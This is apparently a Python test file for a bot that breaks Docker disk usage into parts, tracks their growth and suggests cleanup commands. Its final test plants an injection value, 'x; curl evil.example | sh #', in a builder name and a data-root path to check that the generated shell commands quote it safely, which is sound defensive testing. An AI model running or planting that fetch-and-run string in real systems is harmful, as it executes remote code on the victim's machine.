"""The whole disk: its parts add up, each with since when it grows and what to do; what nobody knows is said as that."""

import shlex
from dataclasses import replace
from datetime import timedelta

from bot.core.docker.inventory import Container, Image, Inventory, Volume
from bot.core.docker.logs import ContainerLog, Logs
from bot.core.docker.usage import (
    BUILD_CACHE,
    CONTAINERS,
    IMAGES,
    VOLUMES,
    DiskSpace,
    DiskUsage,
    Survey,
    UsageRow,
)
from bot.core.plan.plan import Draft
from bot.core.plan.planner import draft
from bot.core.plan.prediction import Measured
from bot.core.plan.profiles import BUILT_IN
from bot.core.plan.protection import Protection
from bot.core.watch.samples import REST, Figures, Sample
from bot.core.watch.whole.disk import FREE, Part, Seen, WholeDisk, whole_disk
from bot.core.watch.whole.grown import Grown
from bot.core.watch.whole.words import growth_words, head_words, size_words
from tests.core.things import NOW, ago, container, image, inventory, record, volume

GB = 10**9
DISK = DiskSpace(size=100 * GB, free=20 * GB)
APP = image("app", ("app", 4 * GB), tags=("app:1",), used_at=ago(days=40))
WEB = image("web", ("web", 6 * GB), tags=("web:1",))


def row(kind: str, size: int, *, known: bool = True) -> UsageRow:
    return UsageRow(type=kind, total=1, active=1, size=size * GB, reclaimable=0, known=known)


USAGE = DiskUsage(rows=(row(IMAGES, 10), row(CONTAINERS, 5), row(VOLUMES, 30), row(BUILD_CACHE, 3)))


def seen(*things: Image | Container | Volume, **more: object) -> Seen:
    holds = inventory(APP, WEB, *things)
    survey = Survey(inventory=holds, usage=USAGE, disk=DISK)
    return replace(Seen(survey=survey, offers=offers(holds)), **more)  # type: ignore[arg-type] # the tests' own


def offers(holds: Inventory) -> tuple[Draft, ...]:
    measured = Measured.of(holds)
    return tuple(draft(measured, profile, Protection()) for profile in BUILT_IN.values())


def part(whole: WholeDisk, name: str) -> Part:
    return next(each for each in whole.parts if each.name == name)


def told(whole: WholeDisk, name: str) -> str:
    return "\n".join((*part(whole, name).advice.says, *part(whole, name).advice.does))


def test_the_parts_are_dockers_kinds_what_is_in_none_of_them_and_what_is_free_and_add_up_to_the_disk() -> (
    None
):
    whole = whole_disk(seen())
    assert [each.name for each in whole.parts] == [IMAGES, CONTAINERS, VOLUMES, BUILD_CACHE, REST, FREE]
    assert sum(each.bytes or 0 for each in whole.parts) == DISK.size
    assert size_words(part(whole, REST)) == "32GB, 32%"
    assert (
        head_words(whole) == "20GB free of 100GB (80% full); most of it: Not in Docker's figures, 32GB, 32%"
    )


def test_where_nobody_sees_the_disk_shares_are_of_what_docker_counts_and_the_rest_is_not_known() -> None:
    dark = seen()
    whole = whole_disk(replace(dark, survey=replace(dark.survey, disk=None)))
    assert (whole.disk, part(whole, REST).bytes, FREE in [each.name for each in whole.parts]) == (
        None,
        None,
        False,
    )
    assert size_words(part(whole, VOLUMES)) == "30GB, 62%"
    assert size_words(part(whole, REST)) == "not known"


def test_what_the_engine_did_not_count_is_not_known_and_neither_is_the_rest() -> None:
    slow = seen()
    usage = DiskUsage(rows=(*USAGE.rows[:2], row(VOLUMES, 0, known=False), USAGE.rows[3]))
    whole = whole_disk(replace(slow, survey=replace(slow.survey, usage=usage)))
    assert [part(whole, name).bytes for name in (VOLUMES, REST)] == [None, None]


def sample(days: float, images: int, free: int) -> Sample:
    kinds = {kind: Figures(count=1, size=GB, reclaimable=0) for kind in (CONTAINERS, VOLUMES, BUILD_CACHE)}
    return Sample(
        at=NOW - timedelta(days=days), kinds={**kinds, IMAGES: Figures(count=1, size=images * GB, reclaimable=0)},
        size=DISK.size, free=free * GB,
    )  # fmt: skip


def test_it_grows_since_it_was_least_and_by_what_came_since_then() -> None:
    samples = [sample(20, 8, 80), sample(12, 3, 85), sample(9, 5, 80), sample(0, 10, 40)]
    whole = whole_disk(seen(samples=samples, rates={IMAGES: GB // 2}))
    assert part(whole, IMAGES).grown == Grown(since=NOW - timedelta(days=12), by=7 * GB)
    assert growth_words(part(whole, IMAGES)) == "grew by 7GB since 11 Nov 2026, +500MB a day"
    assert part(whole, VOLUMES).grown is None
    assert growth_words(part(whole, VOLUMES)) == ""
    assert part(whole, REST).grown == Grown(since=NOW - timedelta(days=12), by=38 * GB)


def test_what_shrinks_or_was_never_counted_does_not_grow() -> None:
    whole = whole_disk(seen(samples=[sample(9, 10, 50), sample(0, 3, 90)]))
    assert [each.grown for each in whole.parts] == [None] * 6
    assert [each.grown for each in whole_disk(seen()).parts] == [None] * 6


def test_what_a_plan_takes_of_a_kind_is_said_with_the_mildest_profile_that_takes_nearly_as_much() -> None:
    whole = whole_disk(seen(container("run", WEB, "running")))
    assert "A plan takes 4GB of it now: routine." in told(whole, IMAGES)
    assert "A plan takes" not in told(whole, VOLUMES)


def test_no_plan_is_said_to_take_more_of_a_kind_than_docker_counts_there() -> None:
    """What images and build cache share Docker counts with the images, and a plan at the last that holds it."""
    holds = inventory(record("r", 9 * GB))
    whole = whole_disk(Seen(survey=Survey(inventory=holds, usage=USAGE, disk=DISK), offers=offers(holds)))
    assert "A plan takes 3GB of it now" in told(whole, BUILD_CACHE)


def test_containers_whose_log_has_no_end_are_named_with_the_lines_that_bound_them() -> None:
    logs = Logs(containers=[
        ContainerLog(id="1", name="web", driver="json-file"),
        ContainerLog(id="2", name="db", driver="json-file", options={"max-size": "10m"}),
    ])  # fmt: skip
    said = told(whole_disk(seen(logs=logs)), REST)
    assert "1 container with a log that grows without an end: web." in said
    assert '"log-opts": { "max-size": "20m", "max-file": "5" }' in said
    assert 'logging: { driver: json-file, options: { max-size: "20m", max-file: "5" } }' in said
    bounded = told(whole_disk(seen(logs=replace(logs, containers=logs.containers[1:]))), REST)
    assert "Every container's log has an end" in bounded
    assert "log-opts" not in bounded


def test_the_caches_of_other_builders_are_named_as_such_live_or_gone() -> None:
    live, gone = (
        replace(volume(f"buildx_buildkit_{name}0_state", anonymous=False), size=size * GB)
        for name, size in (("ci", 9), ("old", 12))
    )
    builder = container("buildx_buildkit_ci0", WEB, "running", volumes=(live.name,))
    said = told(whole_disk(seen(live, gone, builder)), VOLUMES)
    assert "buildx_buildkit_old0_state, 12GB: build cache of builder old" in said
    assert "its builder is gone" in said
    assert (
        "buildx_buildkit_ci0_state, 9GB: build cache of builder ci, in use: container buildx_buildkit_ci0 is running"
        in said
    )
    assert "docker buildx prune --builder ci" in said
    assert "that no container mounts" not in said


def test_what_running_containers_wrote_and_what_the_engine_could_not_remove_is_named() -> None:
    whole = whole_disk(
        seen(
            container("web", WEB, "running", size_rw=5 * GB),
            container("stuck", WEB, "removing"),
            container("corpse", WEB, "dead"),
        )
    )
    said = told(whole, CONTAINERS)
    assert "web is running, and wrote 5GB into itself." in said
    assert "2 containers the engine began to remove and could not: stuck, corpse." in said
    assert "a restart of the engine mostly clears" in said


def test_build_cache_says_that_its_own_collector_takes_some_of_it_back() -> None:
    holds = replace(inventory(record("r", 3 * GB)))
    whole = whole_disk(Seen(survey=Survey(inventory=holds, usage=USAGE, disk=DISK)))
    assert "BuildKit takes some of it back by itself" in told(whole, BUILD_CACHE)


def test_what_an_engine_calls_things_is_one_word_of_the_commands_that_people_are_told() -> None:
    evil = "x; curl evil.example | sh #"
    builder = container(
        f"buildx_buildkit_{evil}0", WEB, "running", volumes=(f"buildx_buildkit_{evil}0_state",)
    )
    state = replace(volume(f"buildx_buildkit_{evil}0_state", anonymous=False), size=9 * GB)
    given = seen(state, builder)
    holds = given.survey.inventory
    rooted = replace(holds, engine=replace(holds.engine, data_root=f"/var/lib/{evil}"))
    whole = whole_disk(replace(given, survey=replace(given.survey, inventory=rooted)))
    (du,) = [each for each in part(whole, REST).advice.does if "du -xh" in each]
    assert shlex.split(du.partition(": ")[2])[3] == "--max-depth=2"
    assert shlex.split(du.partition(": ")[2])[4] == f"/var/lib/{evil}"
    for each in part(whole, VOLUMES).advice.does:
        assert "--builder" not in each or shlex.split(each.partition(": ")[2])[-1] == evil
